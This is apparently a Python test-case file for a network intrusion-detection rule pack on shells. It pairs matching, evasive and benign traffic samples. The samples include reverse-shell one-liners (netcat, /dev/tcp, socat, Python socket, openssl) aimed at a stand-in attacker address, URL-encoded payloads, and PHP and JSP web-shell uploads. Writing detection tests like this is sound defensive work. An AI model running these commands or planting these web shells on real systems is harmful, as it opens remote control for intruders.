"""Cases of signatures/packs/shells.rules."""
from case import Case
from talks import c, http, s, tcp

ID = "uid=0(root) gid=0(root) groups=0(root)\n"
PIPE = "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f\n"
PYTHON = "import socket,os;s=socket.socket();s.connect(('198.51.100.7',4444));os.dup2(s.fileno(),0)\n"
FORM = [("Content-Type", "multipart/form-data; boundary=b")]


def out(*steps, port=4444, **more):
    """A container calls and shows a shell: the client's words are the shell's."""
    return tcp(*steps, port=port, **more)


def part(text):
    return f'--b\r\nContent-Disposition: form-data; name="f"; filename="x.txt"\r\n\r\n{text}\r\n--b--\r\n'


CASES = {
    6100600: Case(out(c("bash: no job control in this shell\n"), s("id\n")), out(s("x\n"), c("sh: 0: a\r\nbash: no job control in this shell\r\n"), port=443, cut=5),
                  out(c("job control is on in this shell\n")), "port 443, five bytes a segment"),
    6100601: Case(out(c("bash: cannot set terminal process group (7): Inappropriate ioctl for device\n")),
                  tcp(c("\n"), s("zsh: cannot set terminal process group (-1): No such\n"), port=53, v6=True), out(c("cannot set terminal title (xterm)\n")), "a bind shell, IPv6, port 53"),
    6100602: Case(out(c("/bin/sh: 0: can't access tty; job control turned off\n# ")), out(c("/bin/sh: can't access tty; job control turned off\r\n/ # "), port=80, reorder=True, cut=9),
                  out(c("can't access tty; ask your administrator\n")), "port 80, segments out of order"),
    6100603: Case(out(c("\n\nBusyBox v1.36.1 (2023-11-07) built-in shell (ash)\n")), tcp(s("BusyBox v1.30 (Debian) built-in shell (ash)\r\n"), port=2323, v6=True),
                  tcp(s("BusyBox v1.36.1 multi-call binary.\n"), port=2000), "a bind shell, another version, IPv6"),
    6100604: Case(out(s("id\n"), c(ID)), tcp(c("id;\n"), s("a\nuid=999(redis) gid=999(redis)\n"), port=31337, v6=True), out(c("uid=guest gid=guest\n")), "a bind shell, another user, IPv6"),
    6100605: Case(out(c("root@web-7d9f:/# "), s("ls\n")), out(c("\x1b]0;root@web: ~\x07\x1b[01;32mroot@web\x1b[00m:\x1b[01;34m~\x1b[00m# "), port=8443, cut=6),
                  out(c("mail for root@web-7d9f: none\n")), "with the colours of a terminal, port 8443"),
    6100606: Case(out(s("python3 -c 'import pty; pty.spawn(\"/bin/bash\")'\n")), out(s("python -c '__import__ (\"pty\").spawn(\"sh\")'\n"), port=9001),
                  out(s("import pty  # the module of terminals\n")), "without an import statement"),
    6100607: Case(out(s("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n")), tcp(c("exec 5<>/dev/tcp/c2.example/443;cat <&5\n"), port=1234, cut=4), out(s("ls /dev/tcp/ is no directory\n")),
                  "with a descriptor, a host's name, four bytes a segment"),
    6100608: Case(http(uri="/?c=bash+-i+%3E%26+/dev/tcp/198.51.100.7/4444"), http("GET", "/x?c=%35%3C%3E%2Fdev%2ftcp%2Fh%2F1", port=8080, cut=6), http(uri="/docs?q=%22/dev/tcp/%22"),
                  "all escaped, other port"),
    6100609: Case(out(s(PIPE)), out(s("mkfifo  p &  bash <p 2>&1 | openssl s_client -quiet -connect h:443 >p\n"), port=443), out(s("mkfifo /run/queue; chown app /run/queue\n")),
                  "openssl in place of netcat"),
    6100610: Case(out(s("nc -e /bin/sh 198.51.100.7 4444\n")), out(s("socat tcp:h:443 EXEC:'/bin/bash',pty\n"), port=80, v6=True), out(s("nc -zv db 5432 && /bin/sh -c true\n")), "socat, IPv6"),
    6100611: Case(out(s(PYTHON)), tcp(c("python3 -c 'from socket import *; s=socket (2,1)\ns.connect ((\"h\",1)); [dup2 (s.fileno(),i) for i in (0,1)]'\n"), port=1234, cut=10),
                  out(s("s = socket.socket(); s.connect(('db', 5432))\n")), "blanks, line ends, a loop"),
    6100612: Case(http("POST", "/upload", FORM, part("<?php system($_GET['c']); ?>")), http("PUT", "/s.php", (), "<?= eval ( base64_decode( $_POST[1])) ?>", chunked=5, port=8080),
                  http("POST", "/upload", FORM, part("<?php echo htmlspecialchars($_GET['q']); ?>")), "short tag, decoded, chunks"),
    6100613: Case(http("POST", "/upload", FORM, part('<% Runtime.getRuntime().exec(request.getParameter("c")); %>')),
                  http("PUT", "/s.jsp/", (), '<%\nString c = request.getParameter("x");\nnew ProcessBuilder("sh", "-c", c).start(); %>', chunked=9),
                  http("POST", "/upload", FORM, part('<%= request.getParameter("q") %>')), "another class, other order, chunks"),
}
